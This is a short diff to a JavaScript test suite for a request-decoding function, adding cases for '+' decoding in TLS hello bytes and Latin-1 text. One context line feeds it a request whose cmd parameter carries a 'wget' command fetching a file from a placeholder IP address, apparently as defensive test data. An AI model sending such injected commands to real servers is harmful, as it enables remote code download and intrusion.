@@ -45,6 +45,9 @@ describe('readings', () => {
     shows('GET /x?cmd=wget+http://192.0.2.1/a HTTP/1.1\r\n\r\n', 'wget http://192.0.2.1/a');
     shows('POST /x HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=b+c', 'a=b c');
     assert.deepEqual(readings('GET / HTTP/1.1\r\nAccept: application/xhtml+xml\r\n\r\n').length, 1);
+    // Two of three TLS hellos have one by chance.
+    assert.deepEqual(readings('\x16\x03\x01\x01+\xfd\x03+').length, 1);
+    assert.deepEqual(readings('caf\xe9+a')[1], 'caf\xe9 a');
   });
 
   it('undo base64, hex, UTF-16, entities, escapes and shell separators, one within another', () => {
